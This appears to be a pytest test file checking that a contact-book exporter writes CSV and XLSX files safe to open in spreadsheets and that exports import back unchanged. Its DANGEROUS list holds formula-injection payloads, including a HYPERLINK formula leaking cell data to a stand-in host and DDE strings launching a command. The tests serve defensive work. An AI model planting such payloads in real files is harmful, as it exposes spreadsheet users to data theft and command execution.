"""Exporting the contact book: files safe to open in a spreadsheet that import back unchanged."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import delete, select

from mailer.contacts.exporting import EXPORT_HEADERS, export_contacts, neutralise
from mailer.contacts.importing import import_contacts
from mailer.contacts.models import Contact
from mailer.managers.models import Manager
from tests.factories import make_contact, make_manager

# One payload per start a spreadsheet runs as a formula.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
    "+7+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


def read_xlsx(path: Path) -> list[list[str]]:
    sheet = load_workbook(path).worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]


def read_table(path: Path) -> list[list[str]]:
    return read_xlsx(path) if path.suffix == ".xlsx" else read_csv(path)


def snapshot(session) -> dict[str, tuple[object, ...]]:
    """Everything an export carries, and the consent record it must not disturb."""
    session.expire_all()
    return {
        c.email: (
            c.last_name,
            c.first_name,
            c.middle_name,
            c.company_name,
            c.company_alias,
            c.position,
            c.phone,
            c.owner.email,
            [t.code for t in c.tags],
            c.has_consent,
            c.consent_at,
            c.consent_source,
        )
        for c in session.scalars(select(Contact))
    }


def make_book(session) -> None:
    """A small book with every kind of value an export has to carry."""
    anna = make_manager(session, name="Анна Смирнова", email="anna@gifts.example")
    boris = make_manager(session, name="Борис Орлов", email="boris@gifts.example")
    make_contact(
        session,
        owner=anna,
        email="ivan@toyota.example",
        last_name="Иванов",
        first_name="Иван",
        middle_name="Иванович",
        company="Тойота (Toyota)",
        position="Директор по закупкам",
        phone="8 (916) 123-45-67",
        tags="строители, сентябрь",
    )
    make_contact(
        session,
        owner=anna,
        email="olga@elka.example",
        last_name="Ёлкина",
        first_name="Ольга",
        company='ООО "Ёлка; и партнёры"',
        consent=None,
    )
    make_contact(
        session,
        owner=boris,
        email="-info@minus.example",
        last_name="-",
        first_name="@Пётр",
        company="=Рога и копыта (+Horns)",
        position="- не указана -",
        tags="торговля",
    )
    session.commit()


@pytest.mark.parametrize("value", DANGEROUS)
def test_neutralise_makes_each_dangerous_start_plain_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["", "Иванов", "a=b", "1+1", "'=already text", " =1+1"])
def test_neutralise_leaves_other_values_alone(value):
    assert neutralise(value) == value


def test_it_exports_csv_that_excel_opens_as_it_is(session, tmp_path):
    make_book(session)
    path = tmp_path / "contacts.csv"

    assert export_contacts(session, path) == 3

    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = read_csv(path)
    assert rows[0] == EXPORT_HEADERS
    ivan = session.scalar(select(Contact).where(Contact.email == "ivan@toyota.example"))
    assert rows[1] == [
        "Иванов",
        "Иван",
        "Иванович",
        "Тойота (Toyota)",
        "Директор по закупкам",
        "ivan@toyota.example",
        "'+79161234567",
        "Строители, Сентябрь",
        "anna@gifts.example",
        ivan.consent_at.date().isoformat(),
    ]
    assert rows[2][3] == 'ООО "Ёлка; и партнёры"'
    assert rows[2][-1] == "нет"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_neutralises_each_dangerous_start(session, tmp_path, suffix):
    owner = make_manager(session)
    for n, payload in enumerate(DANGEROUS):
        contact = make_contact(session, owner=owner, email=f"c{n}@x.example")
        # Past the import's checks (CR/LF...) but still in the book: the export must hold.
        contact.last_name = contact.company_name = contact.position = payload
    session.commit()
    path = tmp_path / f"contacts{suffix}"

    export_contacts(session, path)

    rows = read_table(path)  # for XLSX, also fails on any formula cell
    assert len(rows) == len(DANGEROUS) + 1
    for payload, row in zip(DANGEROUS, rows[1:], strict=True):
        for cell in (row[0], row[3], row[4]):
            assert cell.startswith("'"), cell
            # XML keeps a lone CR as LF; the text is otherwise untouched.
            assert cell[1:].replace("\n", "\r") == payload.replace("\n", "\r")


def test_it_exports_xlsx_even_when_a_field_holds_a_control_character(session, tmp_path):
    contact = make_contact(
        session, email="bell@x.example", last_name="Зво\x07нков", first_name="Ива\x1bн"
    )
    session.commit()
    path = tmp_path / "contacts.xlsx"

    assert export_contacts(session, path) == 1

    row = read_xlsx(path)[1]
    assert (row[0], row[1]) == ("Звонков", "Иван")
    assert row[5] == contact.email


def test_it_exports_only_the_given_owners_contacts(session, tmp_path):
    make_book(session)
    anna = session.scalar(select(Manager).where(Manager.email == "anna@gifts.example"))

    export_contacts(session, tmp_path / "anna.xlsx", owner=anna)

    emails = [row[5] for row in read_xlsx(tmp_path / "anna.xlsx")[1:]]
    assert emails == ["ivan@toyota.example", "olga@elka.example"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_then_import_keeps_contacts_the_same(session, tmp_path, suffix):
    make_book(session)
    before = snapshot(session)
    path = tmp_path / f"contacts{suffix}"
    export_contacts(session, path)

    report = import_contacts(session, path)

    assert (report.rows_read, report.updated, report.inserted, report.rejected) == (3, 3, 0, 0)
    assert snapshot(session) == before


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_export_imported_into_an_empty_book_brings_every_contact_back(session, tmp_path, suffix):
    make_book(session)
    before = snapshot(session)
    path = tmp_path / f"contacts{suffix}"
    export_contacts(session, path)
    session.execute(delete(Contact))
    session.commit()

    report = import_contacts(session, path)

    assert (report.rows_read, report.inserted, report.rejected) == (3, 3, 0)
    after = snapshot(session)
    assert after.keys() == before.keys()
    for email, values in before.items():
        # The file carries the day consent was given, not its time or source.
        *fields, has_consent, consent_at, _source = values
        *new_fields, new_has_consent, new_consent_at, _new_source = after[email]
        assert (new_fields, new_has_consent) == (fields, has_consent), email
        assert (new_consent_at and new_consent_at.date()) == (consent_at and consent_at.date())


def test_the_export_command_writes_the_file_and_says_how_many(runner, session, tmp_path):
    make_book(session)
    path = tmp_path / "boris.csv"

    result = runner.invoke(
        args=["mailer", "contacts", "export", str(path), "--owner", "boris@gifts.example"]
    )

    assert result.exit_code == 0, result.output
    assert f"exported 1 contact to {path}" in result.output
    rows = read_csv(path)
    assert rows[1][:6] == [
        "'-",
        "'@Пётр",
        "",
        "'=Рога и копыта (+Horns)",
        "'- не указана -",
        "'-info@minus.example",
    ]
